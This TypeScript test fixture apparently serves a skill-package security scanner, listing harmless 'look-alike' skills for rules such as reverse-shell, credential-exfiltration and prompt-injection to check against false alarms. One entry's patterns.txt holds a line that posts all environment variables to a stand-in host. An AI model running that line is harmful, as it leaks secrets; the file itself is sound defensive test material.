import { FURTHER_LOOK_ALIKES } from "./further-look-alikes";
import { FENCE } from "./hostile/row";
import { docx, paragraph, pdf } from "./made-documents";
import { skillMd, type LookAlike } from "./sample";

const ALL = { network: true, filesystem: true, subprocess: true, envVars: ["SEARCH_API_KEY"] };

/** An honest skill for each rule, more than one for those easily wrong: it does what the attack looks like. */
export const LOOK_ALIKES: readonly LookAlike[] = [
  {
    lookAlikeOf: "document-contents",
    title: "a letter and a price list that only say something",
    files: {
      "letter.docx": docx(paragraph(["Dear Ms. Kim, the macros of camera lenses are on page 3."])),
      "prices.pdf": pdf("BT /F1 12 Tf (Launch price: 20 EUR. JavaScript course: 90 EUR.) Tj ET"),
      "prices.csv": "item,price\nlens,=A1*2\n",
    },
  },
  {
    lookAlikeOf: "wallet-drains",
    title: "shows what a well-known wallet holds",
    files: {
      "main.mjs":
        "const FOUNDATION = '7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU';\nconsole.log(await connection.getBalance(new PublicKey(FOUNDATION)));\n",
    },
  },
  {
    lookAlikeOf: "prompt-injection",
    title: "tells the agent to ignore earlier drafts of a text",
    files: {
      "SKILL.md": skillMd(
        "Ignore previous drafts of the report and start from the outline. Always follow the style guide of the team, even where the draft differs.",
      ),
    },
  },
  {
    lookAlikeOf: "prompt-injection",
    title: "speaks of system prompts, because it writes them",
    files: {
      "SKILL.md": skillMd(
        "# System prompt writer\n\nWrite a system prompt with a role, the task, constraints and examples. Keep it under 400 words. 系统提示词应当简短。 시스템 프롬프트는 짧게 씁니다.",
      ),
    },
  },
  {
    lookAlikeOf: "hidden-characters",
    title: "right-to-left text with its own marks in prose",
    files: {
      "README.md":
        "Arabic: السلام عليكم\u200f (greeting). Hebrew: שלום\u200f. Soft\u00adhyphen, no\u00a0break.\n",
    },
  },
  {
    lookAlikeOf: "homoglyphs",
    title: "words of one script each, side by side",
    files: {
      "SKILL.md": skillMd("Translate «Москва» to Moscow, «Αθήνα» to Athens, and keep brand names in Latin."),
    },
  },
  {
    lookAlikeOf: "fake-prerequisites",
    title: "lists what must be installed, by package managers",
    files: {
      "SKILL.md": skillMd(
        `## Prerequisites\n\nBefore use install the tools:\n\n${FENCE}bash\nbrew install ffmpeg\nsudo apt-get install -y poppler-utils\nnpm install -g typescript\n${FENCE}\n`,
      ),
    },
  },
  {
    lookAlikeOf: "download-and-execute",
    title: "downloads an archive and checks its digest",
    files: {
      "SKILL.md": skillMd(
        `${FENCE}bash\ncurl -fsSL -o tool.tar.gz https://github.com/example/tool/releases/download/v1.2.3/tool.tar.gz\nsha256sum -c tool.sha256\ntar -xzf tool.tar.gz\n${FENCE}`,
      ),
    },
  },
  {
    lookAlikeOf: "download-and-execute",
    title: "pipes a download into a program that only reads it",
    files: { "count.sh": "#!/bin/bash\ncurl -s https://example.com/words.txt | sort | uniq -c | head -20\n" },
  },
  {
    lookAlikeOf: "downloaded-code",
    title: "downloads data and parses it",
    permissions: ALL,
    files: {
      "main.py":
        "import csv, io, requests\ntext = requests.get('https://example.com/data.csv').text\nprint(list(csv.DictReader(io.StringIO(text))))\n",
    },
  },
  {
    lookAlikeOf: "windows-payload",
    title: "PowerShell that lists and copies files",
    files: {
      "SKILL.md": skillMd(
        `${FENCE}powershell\nGet-ChildItem -Recurse *.md | Measure-Object -Line\nCopy-Item report.md docs\\report.md\n${FENCE}`,
      ),
    },
  },
  {
    lookAlikeOf: "credential-exfiltration",
    title: "reads a token and asks the service the token is for",
    permissions: { network: true, filesystem: false, subprocess: false, envVars: ["GITHUB_TOKEN"] },
    files: {
      "issues.py":
        "import os, requests\nheaders = {'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}\nprint(requests.get('https://api.github.com/repos/a/b/issues', headers=headers).json())\n",
    },
  },
  {
    lookAlikeOf: "credential-exfiltration",
    title: "counts the variables of the environment and prints the number",
    files: { "main.py": "import os\nprint(len(os.environ))\n" },
  },
  {
    lookAlikeOf: "shell-exfiltration",
    title: "uploads a report with the key of the service that takes it",
    files: {
      "upload.sh":
        '#!/bin/bash\ncurl -s -X POST -H "Authorization: Bearer $REPORTS_TOKEN" --data @report.json https://reports.example.com/v1\n',
    },
  },
  {
    lookAlikeOf: "sensitive-file-access",
    title: "reads its own settings in the home directory",
    files: {
      "main.py":
        "import json, pathlib\npath = pathlib.Path.home() / '.config' / 'sample' / 'settings.json'\nprint(json.loads(path.read_text()) if path.exists() else {})\n",
    },
  },
  {
    lookAlikeOf: "obfuscated-execution",
    title: "decodes a picture and shows its size",
    files: {
      "main.py": "import base64, sys\nraw = base64.b64decode(sys.stdin.read())\nprint(len(raw), raw[:4])\n",
    },
  },
  {
    lookAlikeOf: "obfuscated-execution",
    title: "runs the tests of the project by name",
    files: {
      "run.py":
        "import subprocess, sys\nsys.exit(subprocess.run([sys.executable, '-m', 'pytest', '-q']).returncode)\n",
    },
  },
  {
    lookAlikeOf: "obfuscated-commands",
    title: "decodes a secret of a cluster for its owner to see",
    files: {
      "show.sh": "#!/bin/bash\nkubectl get secret app -o jsonpath='{.data.user}' | base64 -d\necho\n",
    },
  },
  {
    lookAlikeOf: "undeclared-permissions",
    title: "declares what it uses",
    permissions: ALL,
    files: {
      "main.py":
        "import os, subprocess, urllib.request\nos.environ['SEARCH_API_KEY']\nurllib.request.urlopen('https://example.com')\nopen('out.txt', 'w').write('x')\nsubprocess.run(['git', 'log'])\n",
    },
  },
  {
    lookAlikeOf: "undeclared-permissions",
    title: "has functions of its own named open, get and run",
    permissions: { network: false, filesystem: false, subprocess: false, envVars: [] },
    files: {
      "main.py":
        "class Door:\n    def open(self):\n        return 1\n\n    def get(self, name):\n        return name\n\n\nprint(Door().open(), Door().get('a'), {'a': 1}.get('a'))\n",
    },
  },
  {
    lookAlikeOf: "destructive-commands",
    title: "cleans the directory of a build",
    files: {
      "clean.sh":
        '#!/bin/bash\nset -eu\ncd "$(dirname "$0")"\nrm -rf ./build ./coverage\nfind . -name "*.pyc" -delete\n',
    },
  },
  {
    lookAlikeOf: "crypto-mining",
    title: "explains mining and counts hashes",
    files: {
      "SKILL.md": skillMd(
        "# Data mining\n\nExplains proof of work: how miners search a nonce. It computes nothing.",
      ),
      "hash.py": "import hashlib\nprint(hashlib.sha256(b'block 1').hexdigest())\n",
    },
  },
  {
    lookAlikeOf: "embedded-secrets",
    title: "digests and identifiers that look like keys",
    files: {
      "data.json":
        '{"commit": "9d2f1ae0c1b2d3e4f5a6978899aabbccddeeff00", "id": "550e8400-e29b-41d4-a716-446655440000", "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}\n',
    },
  },
  {
    lookAlikeOf: "compiled-payload",
    title: "a sound and a picture that are what they say",
    files: {
      "beep.wav": Uint8Array.from([0x52, 0x49, 0x46, 0x46, 4, 0, 0, 0, 0x57, 0x41, 0x56, 0x45]),
      "dot.gif": "GIF89a\u0001",
    },
  },
  {
    lookAlikeOf: "persistence",
    title: "explains a schedule and prints a line for it",
    files: {
      "SKILL.md": skillMd(
        "# Cron expressions\n\nExplains `*/5 * * * *`: every five minutes. It changes no schedule.",
      ),
      "explain.py": "print('minute hour day month weekday'.split())\n",
    },
  },
  {
    lookAlikeOf: "other-languages",
    title: "Ruby that asks a service and prints the answer",
    files: {
      "run.rb":
        "require 'net/http'\nrequire 'json'\nanswer = Net::HTTP.get(URI('https://api.search.example/v1'))\nputs JSON.parse(answer)['a']\n",
    },
  },
  {
    lookAlikeOf: "unsafe-data",
    title: "a pickle of numbers and YAML without tags",
    files: {
      "index.pkl": Uint8Array.from([0x80, 4, 0x5d, 0x94, 0x28, 0x4b, 1, 0x4b, 2, 0x65, 0x2e]),
      "config.yml": "steps:\n  - name: python/object\n    when: always\n",
    },
  },
  {
    lookAlikeOf: "untrusted-installs",
    title: "installs from the index and from a mirror of one's own",
    files: {
      "SKILL.md": skillMd(
        `${FENCE}bash\npip install --index-url https://pypi.your-company.com/simple requests fastapi scapy\nnpx -y prettier --check .\ndeno run https://deno.land/std/http/file_server.ts\n${FENCE}`,
      ),
    },
  },
  {
    lookAlikeOf: "machine-takeover",
    title: "a container with the working directory, and rights of a file of its own",
    files: {
      "run.sh":
        '#!/bin/bash\nchmod 755 scripts/run.sh\nchmod +x ./tool\ndocker run --rm -v "$PWD":/work -v /tmp/out:/out alpine ls /work\n',
    },
  },
  {
    lookAlikeOf: "reverse-shell",
    title: "waits until a port of this machine answers",
    files: { "wait.sh": "#!/bin/bash\nuntil nc -z 127.0.0.1 5432; do sleep 1; done\necho ready\n" },
  },
  {
    lookAlikeOf: "suspicious-hosts",
    title: "links to well-known places",
    files: {
      "README.md":
        "See https://github.com/example/tool, https://docs.python.org/3/, https://www.npmjs.com/package/zod and http://localhost:3000.\n",
    },
  },
  {
    lookAlikeOf: "untrusted-dependencies",
    title: "pins its dependencies with digests",
    files: {
      "requirements.txt":
        "requests==2.32.3 --hash=sha256:55365417734eb18255590a9ff9eb97e9e1da868d4ccd6402399eaf68af20a760\n",
      "package.json": '{"dependencies":{"zod":"4.1.0"},"scripts":{"test":"vitest run"}}\n',
    },
  },
  {
    lookAlikeOf: "sending-hooks",
    title: "a hook that formats what was written",
    files: {
      "SKILL.md": skillMd(
        `Add to your settings:\n\n${FENCE}json\n{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"npx prettier --write ."}]}]}}\n${FENCE}\n`,
      ),
      ".editorconfig": "root = true\n",
      "tsconfig.json": "{}\n",
    },
  },
  {
    lookAlikeOf: "unreadable-code",
    title: "long but plain code",
    files: {
      "table.py": `TABLE = {\n${Array.from({ length: 800 }, (_, at) => `    "key${at}": ${at},`).join("\n")}\n}\nprint(len(TABLE))\n`,
    },
  },
  {
    lookAlikeOf: "unreadable-code",
    title: "an old source that names its encoding",
    files: { "main.py": Buffer.from("# -*- coding: latin-1 -*-\nprint('caf\u00e9')\n", "latin1") },
  },
  {
    lookAlikeOf: "credential-exfiltration",
    title: "a text that is read and not run",
    files: {
      "main.py": 'import json\nrules = open("patterns.txt").read().splitlines()\nprint(json.dumps(rules))\n',
      "patterns.txt": 'urllib.request.urlopen("https://x.example/", str(dict(os.environ)).encode())\n',
    },
  },
  ...FURTHER_LOOK_ALIKES,
];
